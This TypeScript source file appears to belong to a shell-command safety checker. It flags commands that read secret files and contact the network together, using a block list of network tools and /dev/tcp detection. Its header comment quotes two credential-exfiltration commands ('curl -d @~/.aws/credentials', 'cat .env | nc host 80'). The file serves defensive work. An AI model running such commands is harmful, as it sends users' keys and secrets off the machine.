// A command that reads a file holding secrets and talks to the network in the same breath is how a
// key leaves the machine (`curl -d @~/.aws/credentials`, `cat .env | nc host 80`). Each half is
// ordinary; together they ask, whatever allow rule or mode would let them through.
import type { ScriptAnalysis } from "../../shell/analysis/index.js";
import { resolveWordPath } from "../../shell/commands/index.js";
import { commandBaseName, type Field } from "../../shell/words/index.js";
import { secretPathReason } from "../filesystem/index.js";
import { pathCandidates } from "./path-candidates.js";

const NETWORK_COMMANDS = new Set([
  "curl",
  "wget",
  "nc",
  "ncat",
  "netcat",
  "socat",
  "ssh",
  "scp",
  "sftp",
  "rsync",
  "telnet",
  "ftp",
  "tftp",
  "http",
  "https",
  "xh",
  "aria2c",
  "openssl",
]);
/** ssh's own key (`ssh -i ~/.ssh/id_ed25519 host`) is how it logs in, not what it sends. */
const IDENTITY_OPTION = new Set(["ssh", "scp", "sftp"]);

/** Why the command reads a secret and reaches the network, or undefined. */
export function secretExfiltrationReason(analysis: ScriptAnalysis): string | undefined {
  let network: string | undefined;
  let secret: string | undefined;
  const consider = (word: Field, cwd: string | undefined) => {
    if (secret !== undefined) return;
    for (const candidate of pathCandidates(word)) {
      const path = resolveWordPath(candidate, cwd);
      const why = path === undefined ? undefined : secretPathReason(path);
      if (why) {
        secret = `${candidate.value} (${why})`;
        return;
      }
    }
  };
  for (const redirect of analysis.structure.redirects) {
    if (!redirect.target) continue;
    if (/^\/dev\/(tcp|udp)\//.test(redirect.target.value)) network ??= redirect.target.value;
    else consider(redirect.target, redirect.cwd);
  }
  for (const part of analysis.parts) {
    for (const view of part.unwrapping.views) {
      const head = view.words[0];
      const name = head?.literal ? commandBaseName(head.value) : "";
      if (NETWORK_COMMANDS.has(name)) network ??= name;
      for (let i = 1; i < view.words.length; i += 1) {
        if (IDENTITY_OPTION.has(name) && view.words[i - 1]?.value === "-i") continue;
        consider(view.words[i] as Field, part.command.cwd);
      }
    }
  }
  if (network === undefined || secret === undefined) return undefined;
  return `it reads ${secret}, which holds secrets, and talks to the network (${network}) in the same command`;
}
